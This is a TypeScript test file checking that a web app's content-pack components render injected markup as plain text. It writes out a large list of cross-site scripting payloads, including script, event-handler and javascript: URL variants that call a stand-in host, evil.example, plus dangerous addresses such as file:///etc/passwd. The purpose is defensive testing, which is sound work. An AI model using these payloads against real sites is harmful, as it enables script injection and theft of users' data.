import { expect } from 'chai';
import { checklist, head, messages, sections } from '../../src/content/packs/en.ts';
import type { HelplineCountry } from '../../src/content/model.ts';
import { helplines } from '../../src/content/packs/helplines.ts';
import { CODES } from '../support/codes.ts';
import { open, page, ready, until, type Host } from '../support/host.ts';

/* Words that would be markup, in every text of a pack, by every way that a pack comes: they stay words. */

const RUN = 'top.struck=(top.struck||0)+1;fetch(`https://evil.example/`)';
const TAGS = [
  'img src=x',
  'svg',
  'video src=x',
  'body',
  'iframe src=x',
  'details open',
  'input autofocus',
  'a-b',
  'math',
  'style',
];
const EVENTS = ['onerror', 'onload', 'ontoggle', 'onfocus', 'onanimationstart', 'onpointerenter'];
/** More than 150: each tag with each event in three spellings, and the ones that parsers stumbled over. */
const PAYLOADS: readonly string[] = [
  ...TAGS.flatMap(tag =>
    EVENTS.flatMap(event => [
      `<${tag} ${event}="${RUN}">`,
      `"><${tag.toUpperCase()}/${event}=${RUN}//`,
      `--></style></script></textarea></title><${tag}\t${event}='${RUN}'`,
    ]),
  ),
  `<script>${RUN}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<template shadowrootmode="open"><img src=x onerror=${RUN}></template>`,
  `<?lit$1$?><!--?lit$2$-->`,
  `\${alert(1)}{{constructor.constructor('${RUN}')()}}`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `\u003cimg src=x onerror=${RUN}\u003e`,
  `<base href="https://evil.example/"><link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content="0;url=//evil.example">`,
  `<form action="https://evil.example/"><button>x</button></form>`,
  `<style>@import "https://evil.example/x.css";*{background:url(https://evil.example/y)}</style>`,
  `<a href="javascript:${RUN}">x</a>`,
];

/** What may stand in our roots; nothing of this comes from words. */
const FOREIGN = 'script,iframe,object,embed,img,video,audio,base,meta,link,math,template,noscript,style,a-b,marquee';

const KEPT = new Set([...CODES, 'href', 'site', 'url', 'source']);

/** A copy of a value with a payload in each text of it, from the next one on. */
function poisoned(value: unknown, key: string, next: () => string): unknown {
  if (typeof value === 'string') return KEPT.has(key) ? value : next();
  if (Array.isArray(value)) return value.map(one => poisoned(one, key, next));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, poisoned(one, name, next)]));
}

/** A pack that has each payload in each kind of field. */
function pack(): { helplines: readonly HelplineCountry[]; [part: string]: unknown } {
  let at = 0;
  const next = (): string => PAYLOADS[at++ % PAYLOADS.length] ?? '';
  const each = (make: (payload: string, i: number) => object): object[] => PAYLOADS.map(make);
  return {
    ...(poisoned(head, '', next) as object),
    messages: Object.fromEntries(
      Object.entries(messages).map(([group, texts]) => [
        group,
        Object.fromEntries(Object.keys(texts).map((key, i) => [key, i % 2 ? next() : { one: next(), other: next() }])),
      ]),
    ),
    sections: [
      ...sections.map(one => poisoned(one, '', next)),
      ...each((text, i) => ({
        id: `s-${i}`,
        title: text,
        body: [{ p: text }, { ul: [text, [{ strong: text }, { em: text }]] }],
        parts: [],
      })),
    ],
    tips: each((text, i) => ({ id: `t-${i}`, title: text, points: [text, [{ strong: text }]], step: text })),
    checklist: poisoned(checklist, '', next),
    activities: each((text, i) => ({
      id: `a-${i}`,
      title: text,
      summary: text,
      for: ['self'],
      duration: 'PT1H',
      cost: 0,
      place: 'home',
      energy: 1,
      tags: [text],
      needs: [text],
    })),
    helplines: poisoned(helplines, '', next) as HelplineCountry[],
  };
}

const all = (root: ParentNode): Element[] =>
  [...root.querySelectorAll('*')].flatMap(one => [one, ...(one.shadowRoot ? all(one.shadowRoot) : [])]);

/** What of a page is not ours: elements, listeners and addresses. */
function faults({ document, window }: Host): string[] {
  const inside = [...document.querySelectorAll('[data-words]')].flatMap(one =>
    one.shadowRoot ? all(one.shadowRoot) : [],
  );
  const attributes = inside.flatMap(one => [...one.attributes].map(({ name, value }) => ({ one, name, value })));
  return [
    ...inside.filter(one => one.matches(FOREIGN)).map(one => one.outerHTML.slice(0, 200)),
    ...attributes.filter(({ name }) => name.startsWith('on')).map(({ one }) => one.outerHTML.slice(0, 200)),
    ...attributes
      .filter(
        ({ name, value }) =>
          /^(?:href|src|action|formaction)$/.test(name) && /^\s*(?:java|vb)script:|^data:/i.test(value),
      )
      .map(({ value }) => value),
    ...window.performance
      .getEntriesByType('resource')
      .map(({ name }) => name)
      .filter(name => name.includes('evil.example')),
  ];
}

const struck = (): unknown => (window as Window & { struck?: number }).struck;

for (const way of ['a JSON child', 'src', 'the property']) {
  it(`${PAYLOADS.length} payloads in every text, by ${way}, are words`, async () => {
    const words = pack();
    const text = JSON.stringify(words);
    const src = URL.createObjectURL(new Blob([text], { type: 'application/json' }));
    const json = `<script type="application/json">${text.replaceAll('<', '\\u003c')}</script>`;
    const names = ['tips', 'checklist', 'activities', 'helplines', 'guide'];
    const tag = (name: string): string =>
      `<rekindle-${name} data-words ${name === 'tips' ? 'view="list"' : ''} ${name === 'checklist' ? 'mode="list"' : ''} ${name === 'helplines' ? 'country="NZ"' : ''}`;
    // Too long for an address of a page: the words come into it afterwards.
    const host = await open(page('<main></main><script type="module" src="/dist/rekindle.js"></script>'));
    const main = host.document.querySelector('main') as HTMLElement;
    main.innerHTML = names
      .map(
        name =>
          `${tag(name)} ${way === 'src' ? `src="${src}"` : ''}>${way === 'a JSON child' ? json : ''}</rekindle-${name}>`,
      )
      .join('');
    if (way === 'the property') {
      for (const one of main.children) Object.assign(one, { pack: host.window.JSON.parse(text) as unknown });
    }
    await until(() => [...main.children].every(one => one.shadowRoot?.querySelector('.base')));
    await ready(host);

    const buttons = [...main.children].flatMap(one => [...(one.shadowRoot?.querySelectorAll('button') ?? [])]);
    expect(buttons.some(one => PAYLOADS.some(text => one.textContent.trim() === text.trim()))).to.equal(true);
    const tips = host.document.querySelector('rekindle-tips')?.shadowRoot?.textContent ?? '';
    expect(PAYLOADS.filter(text => !tips.includes(text))).to.deep.equal([]);
    // Numbers are texts too.
    const { emergency, services } = words.helplines.find(({ country }) => country === 'NZ')!;
    const help = host.document.querySelector('rekindle-helplines')?.shadowRoot?.textContent.replace(/[⁦⁩]/g, '') ?? '';
    const dialled = [
      ...emergency.map(({ number }) => number),
      ...services.flatMap(({ phone, text }) => phone ?? text?.number ?? []),
    ];
    expect(dialled.filter(text => !PAYLOADS.includes(text) || !help.includes(text))).to.deep.equal([]);
    expect(faults(host)).to.deep.equal([]);
    expect(struck()).to.equal(undefined);
    expect(host.said).to.deep.equal([]);
    URL.revokeObjectURL(src);
  });
}

it('an address that would run, or lead into the page, makes no link, and says so', async () => {
  const addresses = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\nscript:alert(1)',
    '\u0001javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'blob:https://evil.example/1',
    'file:///etc/passwd',
    'about:blank',
    '//evil.example/',
    '/local',
    '#hash',
    'https:',
    'https://with space',
    '',
  ];
  const host = await open(page('<main></main><script type="module" src="/dist/tips.js"></script>'));
  const main = host.document.querySelector('main') as HTMLElement;
  for (const href of addresses) {
    const one = host.document.createElement('rekindle-tips') as HTMLElement & { pack?: unknown };
    one.dataset.words = '';
    one.pack = { ...head, tips: [{ id: 'one', title: 'One', points: [[{ a: 'a link', href }]] }] };
    main.append(one);
  }
  await ready(host);

  expect(faults(host)).to.deep.equal([]);
  const links = [...main.children].flatMap(one => [...(one.shadowRoot?.querySelectorAll('a') ?? [])]);
  expect(links.map(one => one.href)).to.deep.equal([]);
  expect(host.said.filter(text => /points\[0\]/.test(text))).to.have.length(addresses.length);
});
